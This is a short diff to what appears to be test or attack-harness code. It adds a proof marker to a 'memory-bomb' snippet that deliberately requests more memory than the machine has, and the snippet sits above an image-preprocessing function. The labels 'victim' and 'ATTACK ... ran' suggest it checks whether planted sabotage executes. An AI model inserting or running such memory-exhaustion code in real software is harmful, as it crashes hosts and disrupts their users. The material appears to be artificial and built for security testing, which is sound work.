@@ -1,4 +1,8 @@
-"""Asks for more memory than the machine has, in one block and then bit by bit."""
+"""Asks for more memory than the machine has, in one block and then bit by bit.
+
+victim: next
+proof: ATTACK memory-bomb: ran
+"""
 
 blocks = []
 try:
@@ -12,6 +16,7 @@ try:
 except MemoryError:
     pass
 del blocks
+print("ATTACK memory-bomb: ran", flush=True)
 
 
 def preprocess(images, labels):
